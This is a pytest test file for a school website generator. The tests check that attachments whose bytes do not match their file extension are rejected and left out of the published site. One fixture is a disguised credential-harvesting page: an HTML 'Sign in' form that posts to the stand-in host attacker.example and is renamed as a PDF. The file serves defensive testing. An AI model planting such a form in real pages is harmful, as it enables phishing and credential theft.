"""Linked files are what they say: a file whose first bytes do not match its extension (an HTML
page renamed .pdf, a ZIP that is no DOCX, a JPEG renamed .mp3) is a problem naming the Markdown
file and line that link it and what the bytes are, the same in check, build and publish."""

import io
import wave
import zipfile
from pathlib import Path

import pytest
from PIL import Image
from pypdf import PdfWriter

from homeroom_school.reading.signatures import mismatch
from tests.portfolios import PORTFOLIO, portfolio_school
from tests.recordings import phone_recording
from tests.sites import PUBLISHED, build, invoke, read_tree, strong_secrets, write_school

NEWS = "classes/grade-1/news"
PAGE = b"<!DOCTYPE html>\n<html><body><form action=https://attacker.example>Sign in</form>"


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (200, 40, 40)).save(out, "JPEG")
    return out.getvalue()


def pdf() -> bytes:
    writer, out = PdfWriter(), io.BytesIO()
    writer.add_blank_page(width=200, height=200)
    writer.write(out)
    return out.getvalue()


def wav() -> bytes:
    out = io.BytesIO()
    with wave.open(out, "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(b"\0\0" * 800)
    return out.getvalue()


def archive(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name, data in members.items():
            made.writestr(name, data)
    return out.getvalue()


TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
GENUINE = {
    "log.pdf": pdf(),
    "song.wav": wav(),
    "notes.txt": "\ufeffLa lectura de Mía: قرأت كتابا\n".encode(),
    "essay.docx": archive({"[Content_Types].xml": TYPES, "word/document.xml": b"<w:document/>"}),
    "slides.pptx": archive({"[Content_Types].xml": TYPES, "ppt/presentation.xml": b"<p/>"}),
    "sums.xlsx": archive({"[Content_Types].xml": TYPES, "xl/workbook.xml": b"<workbook/>"}),
    "story.odt": archive({"mimetype": b"application/vnd.oasis.opendocument.text"}),
    "talk.odp": archive({"mimetype": b"application/vnd.oasis.opendocument.presentation"}),
    "table.ods": archive({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"}),
    # Containers as their specifications begin them (no encoder here to make whole ones).
    "tagged.mp3": b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" + bytes(400),
    "frames.mp3": b"\xff\xfb\x90\x64" + bytes(400),
    "voice.m4a": b"\x00\x00\x00\x20ftypM4A \x00\x00\x00\x00M4A mp42isom" + bytes(64),
    "clip.mp4": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + bytes(64),
    "voice.ogg": b"OggS\x00\x02" + bytes(64),
    "voice.oga": b"OggS\x00\x02" + bytes(64),
    "clip.webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01" + bytes(64),
}


@pytest.mark.parametrize("name", sorted(GENUINE))
def test_a_file_that_is_what_it_says_passes(tmp_path, name):
    (tmp_path / name).write_bytes(GENUINE[name])
    assert mismatch(tmp_path / name) is None


FORGED = {
    "report.pdf": (PAGE, "an HTML page"),
    "homework.docx": (
        archive({"readme.txt": b"hello"}),
        "a ZIP archive that is no office document",
    ),
    "budget.xlsx": (GENUINE["essay.docx"], "a Word document"),
    "story.odt": (archive({"mimetype": b"application/zip"}), "a ZIP archive that is no office"),
    "song.mp3": (jpeg(), "a JPEG image"),
    "voice.m4a": (GENUINE["song.wav"], "a WAV recording"),
    "clip.webm": (b"MZ\x90\x00" + bytes(60), "a Windows program"),
    "clip.mp4": (b"", "nothing: the file is empty"),
    "voice.ogg": (
        b"\x00\x01\x02\x03\x04\x05\x06\x07\x08",
        "no kind Homeroom knows (it starts with",
    ),
    "notes.txt": (b"plain\x00text", "no kind Homeroom knows"),
    "letter.txt": ("Señora".encode("latin-1"), "no kind Homeroom knows"),
    "scan.pdf": (archive({"a": b"b"}), "a ZIP archive"),
}


@pytest.mark.parametrize("name", sorted(FORGED))
def test_a_file_that_is_not_what_it_says_is_named_by_what_its_bytes_are(tmp_path, name):
    data, looks = FORGED[name]
    (tmp_path / name).write_bytes(data)
    assert mismatch(tmp_path / name).startswith(looks)


ENTRY = f"{PORTFOLIO}/mia/2026-10-07-homework.md"
POST = f"{NEWS}/2026-09-20-report.md"
ATTACK = {
    POST: "Title: Report\nDate: 2026-09-20\n\nRead [the report](report.pdf).\n",
    f"{NEWS}/report.pdf": PAGE,
    ENTRY: (
        "Title: Homework\nDate: 2026-10-07\n\nHer [homework](homework.docx).\n\n"
        "Her [song](song.mp3), and [her notes](notes.txt).\n"
    ),
    f"{PORTFOLIO}/mia/homework.docx": archive({"readme.txt": b"not a document"}),
    f"{PORTFOLIO}/mia/song.mp3": jpeg(),
    f"{PORTFOLIO}/mia/notes.txt": GENUINE["notes.txt"],
}
PROBLEMS = [
    f"{ENTRY}:4: links to 'homework.docx', which is not a Word document: its bytes are those "
    "of a ZIP archive that is no office document; save or export it again as a Word document",
    f"{ENTRY}:6: links to 'song.mp3', which is not an MP3 recording: its bytes are those of a "
    "JPEG image; save or export it again as an MP3 recording",
    f"{POST}:4: links to 'report.pdf', which is not a PDF: its bytes are those of an HTML page; "
    "save or export it again as a PDF",
]


def said(output: str) -> list[str]:
    """The problems a task printed, as `file:line: message`, whatever its prefix."""
    lines = []
    for line in output.splitlines():
        for problem in PROBLEMS:
            head = problem.split(":", 2)[:2]
            if f"{head[0]}:{head[1]}:" in line:
                lines.append(line[line.index(head[0]) :])
    return sorted(lines)


@pytest.mark.slow
def test_check_build_and_publish_refuse_the_same_renamed_files_and_publish_none(tmp_path):
    content = portfolio_school(tmp_path / "content")
    write_school(content, ATTACK)
    checked = invoke("check", "--content", str(content))
    built = build(content, tmp_path / "built")
    env = {**PUBLISHED, **strong_secrets(tmp_path / "secrets", ("grade-1/mia",))}
    published = invoke(
        "publish", "--content", str(content), "--output", str(tmp_path / "site"), env=env
    )
    for result in (checked, built, published):
        assert result.returncode == 1
        assert "Traceback" not in result.stdout + result.stderr
        found = said(result.stdout + result.stderr)
        assert len(found) == 3, result.stdout + result.stderr
        for line, problem in zip(found, sorted(PROBLEMS), strict=True):
            assert line.startswith(problem), (line, problem)
    assert not (tmp_path / "site").exists()
    # The build goes on without them: the page is not copied, nothing is inlined.
    site = read_tree(tmp_path / "built")
    assert "en/grade-1/news/report/index.html" in site
    assert not [name for name in site if "report.pdf" in name]
    assert all(PAGE not in data for data in site.values())


def test_an_attached_file_that_is_what_it_says_builds(tmp_path: Path):
    content = portfolio_school(tmp_path / "content")
    files = dict(ATTACK)
    files[f"{NEWS}/report.pdf"] = GENUINE["log.pdf"]
    files[f"{PORTFOLIO}/mia/homework.docx"] = GENUINE["essay.docx"]
    files[f"{PORTFOLIO}/mia/song.mp3"] = GENUINE["tagged.mp3"]
    write_school(content, files)
    # a recording is inlined as homeroom_audio makes it: it must be one that decodes
    phone_recording(content / PORTFOLIO / "mia/song.mp3", "mp3", 0.5)
    checked = invoke("check", "--content", str(content))
    assert checked.returncode == 0, checked.stdout + checked.stderr
